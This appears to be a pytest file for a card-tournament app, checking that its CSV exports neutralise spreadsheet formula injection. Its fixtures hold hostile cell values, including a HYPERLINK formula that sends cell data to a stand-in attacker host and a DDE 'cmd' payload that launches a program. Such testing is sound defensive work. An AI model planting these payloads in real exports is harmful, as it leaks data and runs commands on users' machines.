"""The CSV files (clubs.md, Exports): no cell of an export is a formula for a spreadsheet,
and numbers stay numbers."""

from __future__ import annotations

import codecs
import csv
import io
import re
from typing import Any

import pytest

from tests.tournaments.api.test_clubs import Club, _play
from tournaments.brackets.standings import METRICS

FORMULA = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
# Names a spreadsheet would run as formulas: each passes the name rule.
HOSTILE = [
    ['=HYPERLINK("http://e.vil/"&A1)', "+1+2"],
    ["-2+3", "@SUM(A1:A9)"],
    ["=1+1", "Carla"],
    ["Dario", "-cmd|' /C calc'!A0"],
]
TEAMS = ["=T1", "+T2", "-T3", "@T4"]


@pytest.fixture
def api(transactional_db: None) -> Club:
    return Club()


def _rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _no_formula(rows: list[list[str]]) -> None:
    """Every cell: a number, or text no spreadsheet takes for a formula."""
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA) or NUMBER.fullmatch(value), (value, row)


def _hostile_evening(api: Club) -> tuple[dict[str, Any], dict[str, Any]]:
    """A club, its season, a tournament, its teams and players all named as formulas; the
    round played (the losers' points difference is negative)."""
    club = api.club(name="=cmd|' /C calc'!A0")
    season = api.post(
        f"/api/clubs/{club['id']}/seasons/", {"name": "+S", "scoring": "match_points"}
    )
    assert season.status_code == 201, season.json()
    body = {
        "name": "@Friday",
        "variant": "tarneeb",
        "hands_per_match": 1,
        "auto_advance": False,
        "season": 1,
        "stages": [{"format": "swiss", "rounds": 1}],
        "entries": [{"name": name, "players": p} for name, p in zip(TEAMS, HOSTILE, strict=True)],
    }
    response = api.post(f"/api/clubs/{club['id']}/tournaments/", body)
    assert response.status_code == 201, response.json()
    tournament = response.json()
    api.start(tournament)
    _play(api, tournament, {})
    return club, tournament


def test_no_export_cell_is_a_formula_and_numbers_stay_numbers(api):
    club, tournament = _hostile_evening(api)
    view = tournament["view_id"]
    standings = _rows(api.get(f"/api/tournaments/{view}/standings/?format=csv"))
    results = _rows(api.get(f"/api/tournaments/{view}/results.csv"))
    season = _rows(api.get(f"/api/clubs/{club['view_id']}/seasons/1/standings/?format=csv"))
    players = _rows(api.get(f"/api/clubs/{club['view_id']}/players.csv"))
    for rows in (standings, results, season, players):
        _no_formula(rows)
    everyone = [name for team in HOSTILE for name in team]
    assert sorted(row[1] for row in players[1:]) == sorted(
        "'" + name if name.startswith(FORMULA) else name for name in everyone
    )
    assert {row[2] for row in season[1:]} == {row[1] for row in players[1:]}
    assert sorted(row[2] for row in standings[1:]) == sorted("'" + name for name in TEAMS)
    cells = [value for row in results[1:] for value in row]
    assert any(HOSTILE[0][0] in value for value in cells)  # the players, and the teams:
    assert any(value[:3] in ("'=T", "'+T", "'-T", "'@T") for value in cells)
    # The losers' points difference is a negative number, written as one.
    diff = 3 + METRICS.index("points_diff")
    losers = [row[diff] for row in standings[1:] if row[diff].startswith("-")]
    assert losers and all(NUMBER.fullmatch(value) for value in losers)
